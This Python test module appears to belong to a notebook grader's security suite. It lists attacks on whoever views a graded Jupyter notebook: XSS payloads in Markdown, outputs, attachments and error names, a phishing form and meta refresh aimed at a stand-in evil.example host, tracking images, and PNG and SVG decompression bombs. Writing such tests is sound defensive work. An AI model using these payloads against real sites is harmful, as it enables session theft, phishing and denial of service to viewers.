"""Attacks on whoever looks at the graded notebook: scripts, false pages, pictures that call home."""

import base64
import struct
import zlib

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell

from tests.attacks import Attack

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def blank(size: int) -> bytes:
    """A white picture in PNG of size x size pixels, in few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress((b"\0" + b"\xff" * (size // 8)) * size, 9)
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def unfolding(times: int) -> str:
    """A drawing of a square, ten times ten times ... as often."""
    groups = [f"<g id='g{i + 1}'>" + f"<use href='#g{i}'/>" * 10 + "</g>" for i in range(times)]
    return f"<svg xmlns='http://www.w3.org/2000/svg'><rect id='g0' width='1' height='1'/>{''.join(groups)}</svg>"


def encoded(data: bytes) -> str:
    return base64.b64encode(data).decode()


def answering(source: str, **more: object) -> object:
    """Puts it into an answer in words and into a cell of its own."""

    def change(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "why_stability":
                cell.source = source
                cell.update(more)
        notebook.cells.append(new_markdown_cell(source, **more))
        notebook.cells.append(NotebookNode(cell_type="raw", source=source, metadata={}, id="raw"))

    return change


def showing(kind: str, value: str) -> list[str]:
    return [f"from IPython.display import display\ndisplay({{{kind!r}: {value!r}, 'text/plain': 'x'}}, raw=True)"]


MARKDOWN = {
    "a script": "<script>steal()</script>",
    "an image that fails": "<img src=x onerror=steal()>",
    "a frame": "<iframe src='javascript:steal()'></iframe><object data='x'></object><embed src='x'>",
    "a form over the page": "<form action='http://evil.example' style='position:fixed'><input><button></button></form>",
    "a style for the whole page": "<style>body { display: none }</style><link rel=stylesheet href='http://evil.example'>",
    "a drawing with a script": "<svg onload=steal()><script>steal()</script></svg>",
    "a tag in mathematics": "$$ <img src=x onerror=steal()> $$ and $a<script>steal()</script>$",
    "links that run something": "[a](javascript:steal()) [b](java&#115;cript:steal()) [c](< javascript:steal()>)\n"
    "[d][e] [f](vbscript:steal()) [g](data:text/html,<script>steal()</script>) <javascript:steal()>\n\n"
    "[e]: javascript:steal()\n[h]\n\n[h]:\n  java\\script:steal()",
    "mathematics that runs something": "$\\href{javascript:steal()}{x}$ $\\style{position:fixed}{x}$",
    "pictures that call home": "![](http://evil.example/x.png) ![a][b]\n\n[b]: http://evil.example/y.png",
    "a picture that is not there": "![](attachment:gone.png) ![x](attachment:none)",
    "a comment that never ends": "<!-- <script>steal()</script>\n\n<![CDATA[ <?php steal() ?>",
    "a refresh": "<meta http-equiv=refresh content='0;url=http://evil.example'><base href='http://evil.example'>",
}
OUTPUTS = {
    "HTML with a script": ("text/html", "<b>x</b><script>steal()</script><scr<script>ipt>steal()</script>"),
    "HTML with handlers": ("text/html", "<b onclick=steal() onmouseover=steal()>x</b><img src=x onerror=steal()>"),
    "HTML that hides a tag in another": ("text/html", "<math><mtext><table><mglyph><style><img src=x onerror=steal()>"),
    "HTML with an attribute that ends early": ("text/html", "<p title='</noscript><img src=x onerror=steal()>'>x</p>"),
    "a script": ("application/javascript", "steal()"),
    "Markdown with a script": ("text/markdown", "<script>steal()</script> [x](javascript:steal())"),
    "LaTeX with a link that runs": ("text/latex", "$\\href{javascript:steal()}{x}$<script>steal()</script>"),
    "a drawing with a script": (
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'><script>steal()</script></svg>",
    ),
    "a picture that ends its attribute": ("image/png", 'x" onerror="steal()'),
    "a picture of another kind": ("image/png", "PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+"),
    "a picture of sixty-four million pixels": ("image/png", encoded(blank(8000))),
    "a picture of sixty-four million pixels in HTML": (
        "text/html",
        f"<img src='data:image/png;base64,{encoded(blank(8000))}'>",
    ),
    "a drawing that unfolds a thousand million times": ("image/svg+xml", unfolding(9)),
    "a drawing that unfolds a thousand million times in HTML": (
        "text/html",
        f"<img src='data:image/svg+xml;base64,{encoded(unfolding(9).encode())}'>",
    ),
    "a widget": ("application/vnd.jupyter.widget-view+json", '{"model_id": "</script><script>steal()</script>"}'),
    "text that looks like a page": ("text/plain", "</pre><script>steal()</script>"),
}

ATTACKS = [
    *(
        Attack(f"writes {what} into an answer", change=answering(source), shows=True)
        for what, source in MARKDOWN.items()
    ),
    *(Attack(f"puts out {what}", showing(*output), shows=True) for what, output in OUTPUTS.items()),
    Attack(
        "attaches a page as a picture",
        change=answering(
            "![x](attachment:a.png) ![y](attachment:b.svg)",
            attachments={
                "a.png": {"text/html": "<script>steal()</script>", "image/png": '"><script>steal()</script>'},
                "b.svg": {"image/svg+xml": "<svg onload=steal()>"},
                '"><script>steal()': {"image/png": PIXEL},
            },
        ),
        shows=True,
    ),
    Attack(
        "raises an error whose name is a script",
        ["raise type('<script>steal()</script>', (Exception,), {})('<script>steal()</script>')"],
        {
            "linear_flow": "def linear_flow(*args):\n    raise ValueError('<script>steal()</script>')",
            "euler_step": "def euler_step(*args):\n    return {'<script>steal()</script>': '<script>steal()</script>'}",
        },
        shows=True,
    ),
    Attack("prints a script", ["print('<script>steal()</script>\\x1b[31m</pre><script>steal()</script>')"], shows=True),
]
